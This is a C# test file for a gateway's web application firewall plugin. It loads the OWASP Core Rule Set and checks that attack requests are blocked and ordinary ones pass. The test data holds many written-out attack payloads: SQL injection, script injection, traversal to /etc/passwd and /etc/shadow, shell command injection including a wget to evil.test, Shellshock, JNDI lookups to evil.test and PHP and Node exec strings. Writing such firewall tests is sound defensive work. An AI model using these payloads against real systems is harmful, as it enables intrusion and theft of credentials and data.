using System.Text;
using Sluice.Gateway.Plugins.Waf;

namespace Sluice.Gateway.Tests.Plugins.Waf;

/// <summary>The OWASP Core Rule Set as Debian packages it (modsecurity-crs), unchanged.</summary>
public sealed class CoreRuleSetTests
{
    private static readonly string[] Files =
    [
        "/etc/modsecurity/crs/crs-setup.conf", "/etc/modsecurity/crs/REQUEST-*.conf", "/usr/share/modsecurity-crs/rules/REQUEST-*.conf",
    ];

    private static readonly PluginHarness Harness = Make();

    private static PluginHarness Make()
    {
        File.Exists(Files[0]).ShouldBeTrue("the Debian package modsecurity-crs is needed (tests/packages.txt)");
        var config = new WafConfig { RuleFiles = Files, Unsupported = "skip", Timeout = 60000 };
        var problems = new List<string>();
        config.Check((_, problem) => problems.Add(problem));
        problems.ShouldBeEmpty();
        return new PluginHarness().Use("waf", config);
    }

    [Fact]
    public void Only_what_is_known_not_to_be_supported_is_left_out()
    {
        var config = new WafConfig { RuleFiles = Files, Unsupported = "skip" };
        var left = config.RuleSet().LeftOut;
        var known = new[] { "@detectSQLi", "@detectXSS", "phase 5", "phase 3", "phase 4", "variable GEO ", "geoLookup", "@rbl" };
        left.Where(l => !known.Any(k => l.Message.Contains(k, StringComparison.OrdinalIgnoreCase))).Select(l => $"{l.Place}: {l.Message}").ShouldBeEmpty();
        config.RuleSet().Count.ShouldBeGreaterThan(400);
    }

    public static TheoryData<string, string> Attacks => new()
    {
        { "SQL injection", "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--" },
        { "SQL injection by time", "/?id=1;SELECT%20SLEEP(10)--" },
        { "SQL schema", "/?q=select+table_name+from+information_schema.tables" },
        { "xp_cmdshell", "/?q=exec+master..xp_cmdshell+'dir'" },
        { "Script", "/?q=%3Cscript%3Ealert(1)%3C/script%3E" },
        { "Script in other clothes", "/?q=%253Cscript%253Ealert(1)%253C/script%253E" },
        { "Event handler", "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E" },
        { "javascript:", "/?q=%3Ca%20href=%22java%26%23115;cript:alert(1)%22%3E" },
        { "Traversal", "/?file=../../../../etc/passwd" },
        { "Encoded traversal", "/?file=..%252f..%252f..%252fetc%252fpasswd" },
        { "Known file", "/download?path=/etc/shadow" },
        { "Restricted file", "/.git/config" },
        { "Remote file", "/?page=http://10.0.0.1/shell.txt?" },
        { "Shell", "/?cmd=;cat%20/etc/passwd" },
        { "Shell by substitution", "/?cmd=$(wget%20http://evil.test/x)" },
        { "Shellshock", "/?x=()%20{%20:;};%20echo%20vulnerable" },
        { "PowerShell", "/?x=powershell.exe%20-EncodedCommand%20x" },
        { "PHP", "/?x=%3C?php%20system('id');?%3E" },
        { "PHP wrapper", "/?x=php://filter/convert.base64-encode/resource=index" },
        { "Java", "/?x=%24%7Bjndi:ldap://evil.test/a%7D" },
        { "Java class", "/?x=java.lang.Runtime.getRuntime().exec(1)" },
        { "Node", "/?x=require('child_process').exec('id')" },
        { "Response splitting", "/?x=a%0d%0aSet-Cookie:%20session=1" },
        { "Session fixation", "/?x=%3Cmeta%20http-equiv=Set-Cookie%20content=%22a=b;%20domain=x%22%3E.cookie=;expires=1" },
        { "NUL", "/?x=a%00b" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Attacks_are_refused(string name, string target)
    {
        (await SendAsync(target)).Status.ShouldBe(403, name);
    }

    [Theory]
    [InlineData("application/x-www-form-urlencoded", "user=admin&password=' UNION SELECT 1,2,3 FROM users-- -")]
    [InlineData("application/json", """{"user":{"name":["ok","<script>alert(document.cookie)</script>"]}}""")]
    [InlineData("application/json", """{"user":"\u003cscript\u003ealert(1)\u003c/script\u003e"}""")]
    [InlineData("text/xml", "<a><b x='1'>../../../../etc/passwd</b></a>")]
    [InlineData("multipart/form-data; boundary=bb", "--bb\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n;cat /etc/passwd\r\n--bb--\r\n")]
    [InlineData("multipart/form-data; boundary=bb", "--bb\r\nContent-Disposition: form-data; name=\"a\"; filename=\"shell.php\"\r\n\r\nx\r\n--bb--\r\n")]
    public async Task Attacks_in_bodies_are_refused(string type, string body) =>
        (await SendAsync("/", "POST", [("Content-Type", type)], body)).Status.ShouldBe(403);

    [Theory]
    [InlineData("User-Agent", "sqlmap/1.0")]
    [InlineData("User-Agent", "Nikto")]
    [InlineData("Cookie", "a=<script>alert(1)</script>")]
    public async Task Attacks_in_headers_are_refused(string name, string value) => (await SendAsync("/", headers: [(name, value)])).Status.ShouldBe(403);

    public static TheoryData<string> Benign =>
    [
        "/", "/index.html", "/products/42?sort=price&order=asc&page=2", "/search?q=blue+shoes", "/search?q=O%27Reilly", "/search?q=Tom%20%26%20Jerry",
        "/api/v1/users/3f2504e0-4f89-11d3-9a0c-0305e82c3301", "/callback?code=SplxlOBeZQQYbYS6WxSbIA&state=af0ifjsldkj", "/search?q=select%20a%20colour", "/u?name=J%C3%BCrgen",
        "/?date=2026-11-20T10:00:00%2B01:00", "/?q=50%25", "/files/report.pdf", "/?email=ann%40example.com", "/?from=1&to=10&tags=a,b,c", "/?text=Hello,%20how%20are%20you?%20Fine!",
    ];

    [Theory]
    [MemberData(nameof(Benign))]
    public async Task What_people_ask_for_passes(string target) => (await SendAsync(target)).Status.ShouldBe(200);

    [Theory]
    [InlineData("application/json", """{"name":"Ann","tags":["a","b"],"price":12.5,"note":"See you at 10 o'clock & bring cake","active":true,"none":null}""")]
    [InlineData("application/x-www-form-urlencoded", "name=Ann+Smith&comment=I+really+like+it%21+Can+you+send+me+two%3F")]
    [InlineData("text/xml", "<order id='1'><item>Shoes</item></order>")]
    [InlineData("multipart/form-data; boundary=bb", "--bb\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--bb\r\nContent-Disposition: form-data; name=\"f\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u00ff\u00d8\u00ff\r\n--bb--\r\n")]
    public async Task What_people_send_passes(string type, string body) => (await SendAsync("/", "POST", [("Content-Type", type)], body)).Status.ShouldBe(200);

    private static Task<PluginResult> SendAsync(string target, string method = "GET", (string, string)[]? headers = null, string? body = null)
    {
        List<(string Name, string Value)> all = [.. headers ?? []];
        if (!all.Exists(h => h.Name is "User-Agent")) all.Add(("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"));
        all.Add(("Accept", "text/html,application/json;q=0.9,*/*;q=0.8"));
        return Harness.SendAsync(target, method, [.. all], body is null ? null : Encoding.Latin1.GetBytes(body), e =>
        {
            e.Request.Host = new("shop.example.com");
            e.Request.Protocol = "HTTP/1.1";
        });
    }
}
